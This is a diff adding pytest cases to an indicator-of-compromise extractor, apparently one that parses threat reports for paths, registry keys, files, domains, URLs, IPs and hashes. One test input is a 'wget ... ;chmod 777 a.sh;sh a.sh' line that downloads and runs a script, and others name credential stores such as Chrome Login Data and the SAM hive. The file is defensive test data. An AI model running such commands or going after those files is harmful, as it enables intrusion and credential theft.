@@ -159,3 +159,84 @@ def test_more_brackets_of_defanging(text, expected):
 )
 def test_escaped_signs_before_names(text, expected):
     assert found(text) == expected
+
+
+@pytest.mark.parametrize(
+    "text,expected",
+    [
+        (r"in AppData\Chrome\User Data\A\Login Data and", [r"PATH AppData\Chrome\User Data\A\Login Data"]),
+        (r"\Software\CurrentVersion\App Paths\x.exe", [r"PATH \Software\CurrentVersion\App Paths\x.exe"]),
+        (r"CORP\user Data", []),
+        ("in ~/Library/Application Support/com.x/a.plist today", ["PATH ~/Library/Application Support/com.x/a.plist"]),
+        (r"cd /Library/Application\ Support/x", [r"PATH /Library/Application\ Support/x"]),
+        ("the /Library/Application Support team", ["PATH /Library/Application"]),
+        ("at %temp%/upload and %SystemRoot%/config/SAM", ["PATH %temp%/upload", "PATH %SystemRoot%/config/SAM"]),
+        ("50%/60% of both", []),
+    ],
+)  # fmt: skip
+def test_blanks_and_variables_in_paths(text, expected):
+    assert found(text) == expected
+
+
+@pytest.mark.parametrize(
+    "text,expected",
+    [
+        (r'xor_key="z\x00v\x00j\x00z\x00p\x00"', []),
+        (r"named March 25 \u202Excod.scr", ["FILE u202Excod.scr"]),
+        (r"WinSxS\x86_microsoft-windows\a.dll", [r"PATH WinSxS\x86_microsoft-windows\a.dll"]),
+        (r"\drivers\x64\evil.sys", [r"PATH \drivers\x64\evil.sys"]),
+        (r"\updated\evil.sys", [r"PATH \updated\evil.sys"]),
+        (r"\xdata\evil.sys", [r"PATH \xdata\evil.sys"]),
+    ],
+)
+def test_escapes_of_code_are_no_paths(text, expected):
+    assert found(text) == expected
+
+
+@pytest.mark.parametrize(
+    "text,expected",
+    [
+        (r"HKLM\A\B Software\Microsoft\C", [r"REGISTRY HKLM\A\B", r"REGISTRY Software\Microsoft\C"]),
+        (r"Computer\HKEY_CURRENT_USER\Keyboard Layout\A", [r"REGISTRY HKEY_CURRENT_USER\Keyboard Layout\A"]),
+        (r"MyComputer\HKEY", []),
+        (r"C:\Operating System\a.exe", [r"PATH C:\Operating System\a.exe"]),
+    ],
+)  # fmt: skip
+def test_where_registry_keys_begin(text, expected):
+    assert found(text) == expected
+
+
+@pytest.mark.parametrize(
+    "text,expected",
+    [
+        ("Edit .bashrc, .htaccess or (.netrc)", ["FILE .bashrc", "FILE .htaccess", "FILE .netrc"]),
+        ("all .exe and .config files", []),
+        ("More.com and mode.com", ["FILE More.com", "FILE mode.com"]),
+        ("tree[.]com or evil.com", ["DOMAIN tree.com", "DOMAIN evil.com"]),
+    ],
+)  # fmt: skip
+def test_dot_files_and_programs_of_dos(text, expected):
+    assert found(text) == expected
+
+
+MD5 = "d41d8cd98f00b204e9800998ecf8427e"
+
+
+@pytest.mark.parametrize(
+    "text,expected",
+    [
+        ("wget http://192.0.2.7/a.sh;chmod 777 a.sh;sh a.sh", ["URL http://192.0.2.7/a.sh", "FILE a.sh", "FILE a.sh"]),
+        ("for x in http://a.com/v1/y;done", ["URL http://a.com/v1/y"]),
+        (f"https://evil[.]com/a.php,192.0.2.7,{MD5}", ["URL https://evil.com/a.php", "IPV4 192.0.2.7", f"MD5 {MD5}"]),
+        ("http://a.com/x;jsessionid=5?y=1;2,3", ["URL http://a.com/x;jsessionid=5?y=1;2,3"]),
+        ("http://a.com/x;sh=1", ["URL http://a.com/x;sh=1"]),
+        ("http://a.com/image;base64,AAAA", ["URL http://a.com/image;base64,AAAA"]),
+    ],
+)  # fmt: skip
+def test_where_urls_end(text, expected):
+    assert found(text) == expected
+
+
+def test_a_quoted_path_ends_before_the_next_sentence():
+    text = "\u201cC:\\Windows\\qvr\\ip.txt. It also adds subnets. IP subnets in \u201cip.txt\u201d"
+    assert found(text) == [r"PATH C:\Windows\qvr\ip.txt", "FILE ip.txt"]
